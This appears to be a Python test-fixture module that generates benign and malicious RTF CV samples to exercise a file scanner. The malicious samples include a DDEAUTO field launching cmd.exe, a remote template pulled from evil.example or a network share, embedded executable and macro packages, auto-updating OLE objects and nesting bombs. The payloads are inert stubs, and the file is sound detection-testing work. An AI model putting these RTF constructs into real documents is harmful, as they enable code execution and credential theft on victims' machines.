"""Rich text: Word, WordPad, TextEdit, LibreOffice, and the tricks of old exploits."""

import struct
from collections.abc import Iterator

from tests.storage.compound import compound
from tests.storage.corpus.docx import PACKAGE, zipped
from tests.storage.corpus.sample import RTF, Sample, good

WORDPAD = rb"{\rtf1\ansi\ansicpg1252\deff0\nouicompat{\fonttbl{\f0\fnil\fcharset0 Calibri;}}"
WORDPAD += b"\r\n" + rb"{\*\generator Riched20 10.0.19041}\viewkind4\uc1 "
TEXTEDIT = rb"{\rtf1\ansi\ansicpg1252\cocoartf2822{\fonttbl\f0\fswiss\fcharset0 Helvetica;}"
WORD = rb"{\rtf1\adeflang1025\ansi\ansicpg1252\uc1\adeff0{\fonttbl{\f0 Arial;}}"


def rtf(body: bytes, head: bytes = WORD) -> bytes:
    return head + rb"\pard Lebenslauf J\'fcrgen \u8222?Wei\'df\par " + body + b"}"


def embedded(name: bytes, native: bytes, kind: int = 2) -> bytes:
    strings = b"".join(struct.pack("<I", len(text)) + text for text in (name + b"\0", b"", b""))
    data = struct.pack("<II", 0x0501, kind) + strings + struct.pack("<I", len(native)) + native
    return rb"{\object\objemb{\*\objdata " + data.hex().encode() + b"}{\\result x}}"


def field(instruction: bytes) -> bytes:
    return rb"{\field{\*\fldinst " + instruction + rb"}{\fldrslt x}}"


def good_ones() -> Iterator[tuple[str, bytes]]:
    yield "Word", rtf(b"")
    yield "WordPad", rtf(b"", WORDPAD) + b"\r\n\0"
    yield "TextEdit", rtf(b"\n", TEXTEDIT)
    yield "blank lines first", b"\r\n" + rtf(b"")
    yield "no version", rtf(b"", rb"{\rtf\ansi ")
    yield "a picture in digits", rtf(rb"{\pict\jpegblip\picw9\pich9 " + b"ffd8ff" * 900 + b"}")
    yield "a picture in bytes", rtf(rb"{\pict\wmetafile8\bin8 {{{{\\\\}}" + b"}")
    yield "a link", rtf(field(rb'{HYPERLINK "https://example.org/"}'))
    yield "page numbers", rtf(field(rb"{\rtlch PAGE }"))
    yield "its own template", rtf(rb"{\*\template C:\\Users\\J\'fcrgen\\Resume.dotx}")
    yield "an embedded sheet", rtf(embedded(b"Excel.Sheet.8", compound({"Workbook": bytes(900)})))
    yield "braces in the text", rtf(rb"\{\{ a \} b \\ c \par ")
    yield (
        "a text about rich text",
        rtf(rb"\\objupdate, \\\\objautlink, {\b \\objdata} und \\template://a"),
    )
    yield "an object that was lost", rtf(rb"{\object\objemb{\*\objdata }{\result x}}")
    yield "LibreOffice, a form", rtf(rb"{\field{\*\fldinst FORMTEXT }{\fldrslt a}")
    yield "too many ends", rtf(b"") + b"}\r\n"


def bad_ones() -> Iterator[tuple[str, str, bytes]]:
    yield (
        "rtf-program",
        "a packed program",
        rtf(embedded(b"Package", b"\2\0x\0C:\\a\\x.exe\0\0\0\3\0\5\0\0\0")),
    )
    yield "rtf-program", "an object with a program", rtf(embedded(b"Word.Document.8", PACKAGE))
    yield "rtf-program", "the equation editor", rtf(embedded(b"Equation.3", bytes(900)))
    yield (
        "rtf-program",
        "digits with words between",
        rtf(rb"{\object\objemb{\*\objdata 0105{\*\x}0000}}"),
    )
    yield (
        "rtf-macro",
        "a sheet with macros",
        rtf(embedded(b"Excel.Sheet.8", compound({"_VBA_PROJECT_CUR/VBA/dir": b"x"}))),
    )
    archive = b"\2\0a.zip\0C:\\a.zip\0\0\0\3\0" + zipped({"a.exe": b"x"})
    yield "rtf-program", "a packed archive with a program", rtf(embedded(b"Package", archive))
    yield "rtf-macro", "a packed docm", rtf(embedded(b"Package", b"\2\0a.docm\0C:\\a.docm\0"))
    yield "rtf-active", "an object that updates itself", rtf(rb"{\object\objemb\objupdate x}")
    yield "rtf-active", "a link that updates itself", rtf(rb"{\object\objautlink x}")
    yield "rtf-active", "an update after a backslash", rtf(rb"\\\objupdate x")
    yield "rtf-active", "an update after a byte", rtf(rb"{\bin1 \\objupdate x}")
    yield "rtf-active", "an update after no number", rtf(rb"\'\\objupdate x")
    yield "rtf-active", "a control", rtf(rb"{\object\objocx x}")
    yield "rtf-active", "DDE", rtf(field(rb"{DDEAUTO cmd.exe calc}"))
    yield "rtf-active", "DDE in pieces", rtf(field(rb"{\b D}{\i D}{\'45}{ a b}"))
    yield "rtf-external", "a template", rtf(rb"{\*\template https://evil.example/t.dotm}")
    yield (
        "rtf-external",
        "a template in pieces",
        rtf(rb"{\*\template {h}{\'74}\u116?p://e.example/}"),
    )
    yield "rtf-external", "a template on a share", rtf(rb"{\*\template \\\\evil\\share\\t.dot}")
    yield "rtf-broken", "cut off", rtf(b"")[:-20]
    yield "rtf-broken", "cut off within", rtf(b"", rb"{\rtf1\ansi {\b a}")[:-20]
    yield "rtf-broken", "too few ends", rtf(b"{" * 20)
    yield "rtf-broken", "a false beginning", rb"{\rtx1\ansi x}"
    yield "rtf-broken", "more bytes than there are", rtf(rb"{\pict\bin99999 a}")
    yield "rtf-bomb", "deep", rtf(b"{" * 3_000 + b"}" * 3_000)
    yield "rtf-bomb", "deep, with words", rtf(rb"{\b " * 3_000 + b"}" * 3_000)
    yield "disguised", "a program after", rtf(b"") + b"MZ\x90\x00" + bytes(90)
    yield "disguised", "an archive after", rtf(b"") + b"PK\x03\x04" + bytes(90)


def samples() -> Iterator[Sample]:
    for why, content in good_ones():
        yield good(why, "Lebenslauf.rtf", content, RTF)
    for code, why, content in bad_ones():
        yield Sample(why, "Lebenslauf.rtf", content, code)
    yield good("rich text called .doc", "cv.doc", rtf(b""), RTF)
    yield Sample("rich text called .txt", "cv.txt", rtf(b""), "misnamed")
